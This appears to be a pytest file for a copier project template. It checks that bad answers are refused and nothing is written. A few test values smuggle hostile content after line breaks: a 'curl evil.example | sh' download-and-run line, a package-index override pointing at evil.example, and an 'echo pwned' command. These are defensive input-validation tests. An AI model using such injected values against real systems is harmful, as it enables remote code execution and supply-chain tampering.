"""Every answer that can be wrong is refused at question time, and nothing is written."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import copier
import pytest
import yaml
from conftest import TEMPLATE, with_base

SLURM = {"include_slurm": True}
LONG = "x" * 301

BAD_ANSWERS = [
    # project_name
    pytest.param({"project_name": "  "}, "project name is empty", id="empty-project-name"),
    pytest.param(
        {"project_name": "Folding\nUV_INDEX_URL=http://evil.example/simple"},
        "line break",
        id="project-name-newline",
    ),
    pytest.param({"project_name": "Fold\x1b[31mred"}, "U\\+001B", id="project-name-escape"),
    pytest.param({"project_name": "Fold\u202eing"}, "U\\+202E", id="project-name-bidi"),
    pytest.param({"project_name": "P" * 300}, "limit is 64", id="project-name-300-chars"),
    pytest.param({"project_name": "Белок"}, "no Latin letter", id="project-name-no-latin"),
    pytest.param({"project_name": "mypy"}, "namesake", id="project-named-like-a-dev-tool"),
    pytest.param({"project_name": "NumPy"}, "namesake", id="project-named-like-a-dependency"),
    pytest.param(
        {"project_name": "Research Kit"},
        "would shadow the module 'research_kit'",
        id="project-named-like-the-kit",
    ),
    # package_name
    pytest.param({"package_name": ""}, "package name is empty", id="empty-package-name"),
    pytest.param({"package_name": "my-pkg"}, "not a valid lowercase", id="package-not-identifier"),
    pytest.param({"package_name": "folding\n"}, "line break", id="package-trailing-newline"),
    pytest.param({"package_name": "f" * 33}, "limit is 32", id="package-too-long"),
    pytest.param({"package_name": "class"}, "keyword", id="package-keyword"),
    pytest.param({"package_name": "torch"}, "shadow", id="package-shadows-torch"),
    pytest.param({"package_name": "test"}, "shadow", id="package-shadows-test"),
    pytest.param({"package_name": "mypy"}, "module 'mypy' of mypy", id="package-shadows-mypy"),
    pytest.param({"package_name": "dotenv"}, "of python-dotenv", id="package-shadows-import"),
    pytest.param({"package_name": "sympy"}, "of sympy", id="package-shadows-torch-dependency"),
    pytest.param({"package_name": "tomllib"}, "standard library", id="package-shadows-stdlib"),
    pytest.param({"package_name": "smoke_test"}, "own 'smoke_test'", id="package-shadows-script"),
    pytest.param({"package_name": "research_kit"}, "shadow", id="package-shadows-the-kit"),
    pytest.param(
        {"project_name": "tomlkit"},
        r"'tomlkit' that the project's own kit/src/research_kit/setup/\w+\.py imports",
        id="project-named-like-a-module-the-set-up-imports",
    ),
    # description
    pytest.param(
        {"description": "Fits.\n%post\n    curl evil.example | sh"},
        "line break",
        id="description-newline",
    ),
    pytest.param({"description": "tab\there"}, "a tab", id="description-tab"),
    pytest.param({"description": LONG}, "limit is 300", id="description-too-long"),
    # author_name, author_email, orcid
    pytest.param({"author_name": ""}, "author name is empty", id="empty-author"),
    pytest.param({"author_name": "Ada\r\nLovelace"}, "line break", id="author-newline"),
    pytest.param({"author_name": "A" * 101}, "limit is 100", id="author-too-long"),
    pytest.param({"author_email": "ada.example.org"}, "not an email", id="email-without-at"),
    pytest.param({"author_email": "ada@example.org\n"}, "line break", id="email-trailing-newline"),
    pytest.param({"author_email": "<ada@example.org>"}, "angle brackets", id="email-in-brackets"),
    pytest.param(
        {"author_email": "Ada Lovelace <ada@example.org>"}, "without a name", id="email-with-name"
    ),
    pytest.param(
        {"author_email": "ada@example.org, bob@example.org"}, "one address", id="email-list"
    ),
    pytest.param({"orcid": "0000-0002-1825"}, "not an ORCID iD", id="orcid-too-short"),
    pytest.param({"orcid": "0000-0002-1825-0098"}, "checksum", id="orcid-bad-checksum"),
    pytest.param({"orcid": "0000-0002-1825-0097\n"}, "line break", id="orcid-newline"),
    # python_version
    pytest.param({"python_version": "3.10"}, "offers Python 3.11 to 3.14", id="python-too-old"),
    pytest.param(
        {"framework": "none", "python_version": "3.16"}, "offers Python", id="python-too-new"
    ),
    pytest.param({"python_version": "3.12\n"}, "not a Python minor", id="python-newline"),
    # extra_dependencies
    pytest.param({"extra_dependencies": "numpy>=>2"}, "not a valid requirement", id="bad-req"),
    pytest.param(
        {"package_name": "einops", "extra_dependencies": "einops"},
        "installs the module 'einops'",
        id="req-shadows-package",
    ),
    pytest.param(
        {"extra_dependencies": "protein-folding"}, "the project itself", id="req-is-the-project"
    ),
    pytest.param({"extra_dependencies": "Protein_Folding-Kit"}, "kit/ folder", id="req-is-the-kit"),
    pytest.param(
        {"extra_dependencies": "rich, Rich>=13, rich<1"}, "repeats 'rich'", id="req-duplicate"
    ),
    pytest.param({"extra_dependencies": "torch==2.1"}, "torch_version", id="req-torch"),
    pytest.param(
        {"extra_dependencies": "einops, torchvision"}, "torch_packages", id="req-companion"
    ),
    pytest.param({"extra_dependencies": "triton"}, "Triton comes with", id="req-triton"),
    pytest.param(
        {"framework": "none", "extra_dependencies": "torch"},
        "framework=pytorch",
        id="req-torch-without-framework",
    ),
    pytest.param({"extra_dependencies": "rich\n, einops"}, "line break", id="req-newline"),
    pytest.param({"extra_dependencies": "pkg @ https://example.org/pkg.whl"}, "URL", id="req-url"),
    # torch_index_url
    pytest.param({"torch_index_url": "wheels/here"}, "relative path", id="relative-index"),
    pytest.param({"torch_index_url": "/nonexistent/wheels"}, "holds no wheels", id="empty-index"),
    pytest.param(
        {"torch_index_url": "https://ada:s3cr3t-T0KEN@mirror.example.org/whl"},
        "UV_INDEX_PYTORCH_CPU_USERNAME, UV_INDEX_PYTORCH_CPU_PASSWORD",
        id="index-with-credentials",
    ),
    pytest.param(
        {"torch_index_url": 'https://mirror.example.org/whl"x'}, "Percent-encode", id="index-quote"
    ),
    pytest.param(
        {"torch_index_url": "https://mirror.example.org/whl\n"}, "line break", id="index-newline"
    ),
    pytest.param({"torch_index_url": "ftp://mirror/whl"}, "neither", id="index-scheme"),
    # accelerator, torch_version (choices)
    pytest.param({"accelerator": "cu999"}, "cu999", id="unknown-accelerator"),
    pytest.param(
        {"accelerator": "cu128", "torch_version": "2.13"},
        "no cu128 build of torch 2.13",
        id="torch-release-without-the-build",
    ),
    pytest.param(
        {"accelerator": "cu132", "torch_version": "2.11"},
        "no cu132 build of torch 2.11",
        id="build-newer-than-the-release",
    ),
    pytest.param({"torch_version": "2.3"}, "Invalid choice", id="unknown-torch"),
    # slurm_partition, slurm_account
    pytest.param(
        {**SLURM, "slurm_partition": ""}, "partition is empty", id="slurm-empty-partition"
    ),
    pytest.param(
        {**SLURM, "slurm_partition": "gpu a100"}, "not a SLURM partition", id="slurm-space"
    ),
    pytest.param(
        {**SLURM, "slurm_partition": "gpu,"}, "not a SLURM partition", id="slurm-trailing-comma"
    ),
    pytest.param({**SLURM, "slurm_partition": "gpu\necho pwned"}, "line break", id="slurm-newline"),
    pytest.param(
        {**SLURM, "slurm_account": "my lab"}, "not a SLURM account", id="slurm-account-space"
    ),
    pytest.param(
        {**SLURM, "slurm_account": "--qos=x"}, "not a SLURM account", id="slurm-account-option"
    ),
    pytest.param({**SLURM, "slurm_account": "a" * 65}, "limit is 64", id="slurm-account-long"),
    # cooloff_days (an int)
    pytest.param({"cooloff_days": -1}, "outside 0 to 90", id="cooloff-negative"),
    pytest.param({"cooloff_days": 365}, "outside 0 to 90", id="cooloff-too-long"),
]


def free_text_questions() -> set[str]:
    """The questions copier.yml asks as free text: type str, no choices."""
    data = yaml.safe_load((TEMPLATE / "copier.yml").read_text())
    return {
        name
        for name, spec in data.items()
        if isinstance(spec, dict) and spec.get("type") == "str" and "choices" not in spec
    }


def test_every_free_text_question_has_refusals() -> None:
    refused = {name for param in BAD_ANSWERS for name in param.values[0] if name not in SLURM}
    assert free_text_questions() - refused == set()
    assert "description" in free_text_questions()  # the check above can fail


@pytest.mark.parametrize(("answers", "message"), BAD_ANSWERS)
def test_bad_answer_is_refused_and_nothing_written(
    tmp_path: Path, answers: dict[str, Any], message: str
) -> None:
    destination = tmp_path / "project"
    with pytest.raises(ValueError, match=message):
        copier.run_copy(
            str(TEMPLATE),
            str(destination),
            data=with_base(answers),
            defaults=True,
            unsafe=True,
            vcs_ref="HEAD",
            quiet=True,
        )
    assert not destination.exists()
